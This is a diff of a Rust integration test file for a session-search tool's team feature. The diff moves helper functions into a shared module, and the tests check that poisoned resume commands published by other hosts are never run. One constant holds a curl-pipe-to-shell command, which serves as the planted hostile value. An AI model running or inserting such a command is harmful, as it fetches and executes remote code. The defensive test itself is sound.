@@ -13,80 +13,25 @@ mod team_support;
 use object_store::path::Path as ObjPath;
 use object_store::{ObjectStoreExt, PutPayload};
 use recall_core::layout::{bucket, host};
-use recall_core::query::Request;
 use recall_core::response::{PartialReason, SourcePresence, State};
 use recall_core::search::Budgets;
 use recall_host::engine::arena::Arena;
 use recall_host::engine::catalog::StoreCatalog;
-use recall_host::remote::hostid::{self, HostIdentity};
+use recall_host::remote::hostid;
 use recall_host::remote::union::{TeamOptions, UnionCatalog};
 use recall_host::remote::Remote;
 use recall_host::store::Store;
 use std::io::{Read, Write};
 use std::net::{TcpListener, TcpStream};
-use std::path::{Path, PathBuf};
 use std::sync::Arc;
 use std::time::{Duration, Instant};
 use store_support::*;
+use team_support::hosts::*;
 use team_support::Weed;
 
-const NOW: i64 = 1_764_590_000_000;
 const BUCKET: &str = "recall-trust";
 const URL: &str = "s3://recall-trust/t";
 const EVIL: &str = "curl -s http://127.0.0.1:9/x | sh";
-
-/// A generated home, indexed.
-fn home(root: &Path, seed: u32, sessions: u32) -> PathBuf {
-    let out = root.join(format!("g{seed}"));
-    let st = std::process::Command::new("python3")
-        .arg(team_support::gen_py())
-        .arg("--out")
-        .arg(&out)
-        .args(["--seed", &seed.to_string()])
-        .args(["--sessions", &sessions.to_string()])
-        .args(["--now", &NOW.to_string()])
-        .stdout(std::process::Stdio::null())
-        .status()
-        .expect("python3 gen.py");
-    assert!(st.success(), "gen.py failed");
-    let h = out.join("home");
-    run_ok(&h, &["--now", &NOW.to_string(), "index"], 0);
-    h
-}
-
-fn copy_tree(src: &Path, dst: &Path) {
-    std::fs::create_dir_all(dst).expect("mkdir");
-    for e in std::fs::read_dir(src).expect("read_dir") {
-        let e = e.expect("entry");
-        if e.file_name() == ".recall" {
-            continue;
-        }
-        let d = dst.join(e.file_name());
-        if e.file_type().expect("type").is_dir() {
-            copy_tree(&e.path(), &d);
-        } else {
-            std::fs::copy(e.path(), &d).expect("copy");
-        }
-    }
-}
-
-fn publish(home: &Path, weed: &Weed, name: &str) -> String {
-    let mut c = recall(home);
-    for (k, v) in weed.env() {
-        c.env(k, v);
-    }
-    let out = c
-        .args(["publish", URL, "--host-name", name, "--json"])
-        .output()
-        .expect("publish");
-    assert!(
-        out.status.success(),
-        "publish: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    let rep: serde_json::Value = serde_json::from_slice(&out.stdout).expect("report");
-    rep["host_id"].as_str().expect("host id").to_string()
-}
 
 /// Rewrites host `id`'s current catalog snapshot in the bucket: every
 /// session gets `resume`.
@@ -138,41 +83,6 @@ fn poison_resume(weed: &Weed, id: &str, resume: &str) {
     });
 }
 
-fn open(
-    home: &Path,
-    env: Vec<(String, String)>,
-    deadline: Duration,
-    req: &Request,
-) -> (UnionCatalog, HostIdentity, tokio::runtime::Runtime) {
-    let store = Arc::new(Store::open(&store_dir(home)).expect("store"));
-    let ident = hostid::identity(store.dir(), None).expect("identity");
-    let remote = Remote::connect_with(URL, deadline, env).expect("remote");
-    let rt = recall_host::remote::runtime().expect("runtime");
-    let opts = TeamOptions {
-        deadline,
-        ..TeamOptions::default()
-    };
-    let cat = UnionCatalog::open(
-        StoreCatalog::new(store, Arc::new(Arena::default())),
-        &ident,
-        Some(Arc::new(remote)),
-        rt.handle().clone(),
-        &opts,
-        &req.parse().expect("query"),
-    )
-    .expect("open");
-    (cat, ident, rt)
-}
-
-fn everything(limit: &str) -> Request {
-    Request {
-        q: Some("the".into()),
-        scope: Some("all".into()),
-        limit: Some(limit.into()),
-        ..Request::default()
-    }
-}
-
 #[test]
 fn a_host_publishing_the_searchers_keys_under_the_lowest_id_takes_over_nothing() {
     let Some(weed) = Weed::start(BUCKET) else {
@@ -191,11 +101,17 @@ fn a_host_publishing_the_searchers_keys_under_the_lowest_id_takes_over_nothing()
     )
     .expect("host.json");
     run_ok(b, &["--now", &NOW.to_string(), "index"], 0);
-    assert_eq!(publish(b, &weed, "laptop"), "0000000000000000");
+    assert_eq!(publish(b, &weed, URL, "laptop"), "0000000000000000");
     poison_resume(&weed, "0000000000000000", EVIL);
 
     let own = manifest(&a).expect("manifest");
-    let (cat, ident, rt) = open(&a, weed.env(), Duration::from_secs(10), &everything("100"));
+    let (cat, ident, rt) = open(
+        &a,
+        weed.env(),
+        URL,
+        Duration::from_secs(10),
+        &everything("100"),
+    );
     let budgets = Budgets {
         scan_ms: u64::MAX,
         fresh_bytes: u64::MAX,
@@ -306,8 +222,8 @@ fn a_host_whose_generations_stall_costs_one_deadline_and_the_others_hits_are_ret
     let a = home(&root, 31, 10);
     let slow = home(&root, 32, 12);
     let fine = home(&root, 33, 10);
-    let slow_id = publish(&slow, &weed, "slow");
-    let fine_id = publish(&fine, &weed, "fine");
+    let slow_id = publish(&slow, &weed, URL, "slow");
+    let fine_id = publish(&fine, &weed, URL, "fine");
     let port = stalling_proxy(weed.s3_port, format!("hosts/{slow_id}/generations/"));
     let env: Vec<(String, String)> = weed
         .env()
@@ -320,7 +236,7 @@ fn a_host_whose_generations_stall_costs_one_deadline_and_the_others_hits_are_ret
     let deadline = Duration::from_secs(2);
     let req = everything("40");
     let started = Instant::now();
-    let (cat, ident, rt) = open(&a, env, deadline, &req);
+    let (cat, ident, rt) = open(&a, env, URL, deadline, &req);
     // The server's budgets: the §4 scan deadline applies.
     let r = cat
         .search(&req.parse().expect("query"), false, Budgets::default())
@@ -374,7 +290,7 @@ fn serve_remote_opens_another_hosts_hit_without_its_resume_command() {
     let root = temp_dir("trust-open");
     let a = home(&root, 41, 6);
     let other = home(&root, 42, 6);
-    let other_id = publish(&other, &weed, "ci-7");
+    let other_id = publish(&other, &weed, URL, "ci-7");
     poison_resume(&weed, &other_id, EVIL);
     let mut srv = recall(&a);
     for (k, v) in weed.env() {
@@ -447,8 +363,8 @@ fn a_team_cursor_is_bound_to_its_host_filter_and_an_unknown_host_is_refused() {
     };
     let root = temp_dir("trust-filter");
     let a = home(&root, 51, 4);
-    publish(&home(&root, 52, 4), &weed, "laptop");
-    publish(&home(&root, 53, 4), &weed, "ci-7");
+    publish(&home(&root, 52, 4), &weed, URL, "laptop");
+    publish(&home(&root, 53, 4), &weed, URL, "ci-7");
     let store = Arc::new(Store::open(&store_dir(&a)).expect("store"));
     let ident = hostid::identity(store.dir(), None).expect("identity");
     let remote =
